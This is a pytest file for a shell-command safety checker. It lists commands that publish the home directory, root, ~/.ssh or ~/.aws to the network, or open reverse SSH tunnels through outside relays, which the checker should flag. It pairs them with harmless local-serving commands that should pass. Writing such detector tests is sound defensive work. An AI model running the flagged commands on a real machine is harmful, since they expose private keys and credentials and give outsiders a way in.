"""Classes a blind round showed weak in data flowing out, code run inside interpreters, packages
run or installed from an address, writes that weaken security, and Windows.  Each case is a form
written for the class (other programs and phrasings than the round's), not a line of it."""
from __future__ import annotations

import pytest

from tests.safety.test_long_tail import flagged, quiet


# ------------------------------------------------------------ private files exposed to the network
@pytest.mark.parametrize("command", [
    "python3 -m http.server 8000 --bind 0.0.0.0 --directory ~",
    "python -m http.server -d / 80",
    "cd ~ && python3 -m http.server 9000",
    "php -S 0.0.0.0:8080 -t ~",
    "ruby -run -e httpd ~ -p 8000",
    "busybox httpd -f -p 8080 -h /",
    "miniserve --interfaces 0.0.0.0 ~/.ssh",
    "dufs ~ -b 0.0.0.0 --allow-upload",
    "npx http-server ~ -p 8080 -a 0.0.0.0",
    "npx serve ~/.aws",
    "caddy file-server --root / --listen :8080 --browse",
    "rclone serve webdav / --addr 0.0.0.0:8080",
    "rclone serve http ~ --addr :8080",
    "updog -d ~ -p 80",
    "python3 -m pyftpdlib -p 2121 -d ~ -w",
    "twistd -n web --path ~ --port tcp:8080",
    "ngrok http file:///home/me",
    "tailscale funnel ~/",
    "tailscale funnel /home/me/.ssh",
    "sudo exportfs -o rw,no_root_squash '*:/'",
    # reverse tunnels that publish the local ssh or a service elsewhere
    "ssh -N -R 9000:localhost:22 relay@example.net",
    "ssh -fNR 2222:127.0.0.1:22 user@vps.example.org",
    "autossh -M 0 -N -R 0.0.0.0:8022:localhost:22 jump.example.org",
    "ssh -R 80:localhost:3000 serveo.net",
    "ssh -R 0:localhost:8080 nokey@localhost.run",
    "chisel client vps.example.com:8000 R:2222:localhost:22",
    "ngrok tcp 22",
    "bore local 22 --to bore.pub",
    "cloudflared tunnel --url ssh://localhost:22",
])
def test_private_files_or_the_way_in_exposed(command):
    flagged(command)


@pytest.mark.parametrize("command", [
    "python3 -m http.server 8000 --bind 127.0.0.1",
    "python3 -m http.server --directory dist 8080",
    "python3 -m http.server",
    "npx serve build",
    "caddy file-server --root ./public --listen localhost:8080",
    "php -S localhost:8000 -t public",
    "busybox httpd -f -p 127.0.0.1:8080 -h ./site",
    "miniserve ./target/doc",
    "rclone serve http remote:media --addr 127.0.0.1:8080",
    "ssh -N -L 5432:localhost:5432 db.example.com",
    "ssh -R 52698:localhost:52698 devbox",
    "ngrok http 3000",
    "tailscale serve 3000",
    "tailscale funnel 8443",
    "cloudflared tunnel --url http://localhost:8080",
])
def test_serving_a_project_or_a_local_port_stays_quiet(command):
    quiet(command)
